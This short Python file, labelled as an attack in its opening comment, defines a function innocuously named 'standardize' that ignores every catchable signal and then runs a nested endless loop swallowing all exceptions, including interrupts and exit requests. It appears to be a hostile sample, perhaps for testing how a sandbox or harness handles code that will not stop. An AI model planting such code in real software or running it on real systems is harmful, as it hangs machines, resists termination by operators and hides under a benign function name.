# attack: runs an endless loop that ignores every interrupt
import signal


def standardize(x, eps=0.0):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
